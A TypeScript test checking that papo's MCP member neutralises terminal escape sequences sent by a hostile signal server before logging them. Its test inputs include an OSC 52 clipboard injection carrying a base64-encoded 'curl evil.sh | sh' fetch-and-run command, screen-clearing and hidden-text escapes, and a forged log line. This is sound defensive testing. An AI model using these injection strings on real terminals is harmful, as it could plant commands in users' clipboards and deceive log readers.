// The signal server is a stranger to the member (docs/security.md, 2026-12-03 review, "Info"): the
// `code` and `message` of its `error` frames are its own text, and under PAPO_LOG the member writes
// them to stderr, which a person reads in a terminal (or a client shows from its debug log). A real
// `papo mcp` with a profile made by the built binary, a hostile signal server on loopback that
// sends an `error` frame full of terminal escapes and a forged log line: the bytes on stderr hold
// none of them raw, the visible escapes instead.
import assert from 'node:assert/strict';
import { rmSync } from 'node:fs';
import { test } from 'node:test';
import { makeTempDir } from '../support/files.js';
import { spawnMcp } from '../support/mcp-process.js';
import { memberEnv, papoOk } from '../support/papo.js';
import { waitFor } from '../support/wait.js';
import { startEvilSignalServer } from './evil-signal.js';

const ESC = '\u001b';
const BEL = '\u0007';
/** A code no server of papo's sends: an OSC 52 (the reader's clipboard) and a window title. */
const CODE = `room_full${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=${BEL}`;
/** A message that clears the screen, hides text, reverses what follows and forges a log line. */
const MESSAGE =
  `busy${ESC}]0;pwned${BEL}${ESC}[2J${ESC}[8mhidden${ESC}[0m\u202eevil \u009b31mred\r` +
  '\n2026-12-03T00:00:00.000Z INFO papo::mcp forged: the room key is attached';

test("a hostile signal server's error code and message are inert on the member's stderr under PAPO_LOG", async (t) => {
  const evil = await startEvilSignalServer();
  t.after(() => evil.close());
  const home = makeTempDir('papo-server-error-');
  t.after(() => rmSync(home, { recursive: true, force: true }));
  const env = memberEnv({ PAPO_HOME: home, PAPO_LOG: 'info' });
  await papoOk(['new', '--name', 'voce', '--signal', evil.url], { env, timeoutMs: 30_000 });
  const mcp = spawnMcp({ home, env, removeHome: false });
  t.after(() => mcp.stop());
  await mcp.client.initialize();
  await waitFor('the member to join the hostile server', () => evil.peers().length === 1, {
    timeoutMs: 30_000,
    last: mcp.stderr,
  });
  const [peer] = evil.peers();
  evil.inject(peer as string, { t: 'error', code: CODE, message: MESSAGE });
  await waitFor('the error in the log', () => mcp.stderr().includes('signal server: room_full'), {
    timeoutMs: 20_000,
    last: mcp.stderr,
  });

  const bytes = Buffer.from(mcp.stderr(), 'utf8');
  for (const [name, seq] of [
    ['ESC', [0x1b]],
    ['BEL', [0x07]],
    ['CR', [0x0d]],
    ['C1 CSI', [0xc2, 0x9b]],
    ['RLO', [...Buffer.from('\u202e')]],
  ] as const) {
    assert.equal(bytes.indexOf(Buffer.from(seq)), -1, `raw ${name} on stderr`);
  }
  const text = bytes.toString('utf8');
  // What the server sent is still there to read, as visible escapes, on the line papo wrote.
  const line = text.split('\n').find((l) => l.includes('signal server: room_full'));
  assert.ok(line !== undefined);
  for (const shown of [
    '\\x1b]52;c;',
    '\\x07',
    '\\x1b[2J',
    '\\x1b[8mhidden',
    '\\u202eevil',
    '\\x9b31m',
    '\\r',
  ])
    assert.ok(line.includes(shown), `${shown} shown in: ${line}`);
  assert.ok(line.includes('\\n2026-12-03T00:00:00.000Z INFO papo::mcp forged'), line);
  assert.equal(
    text.split('\n').some((l) => l.startsWith('2026-12-03T00:00:00.000Z')),
    false,
    'no line forged at column 0',
  );
});
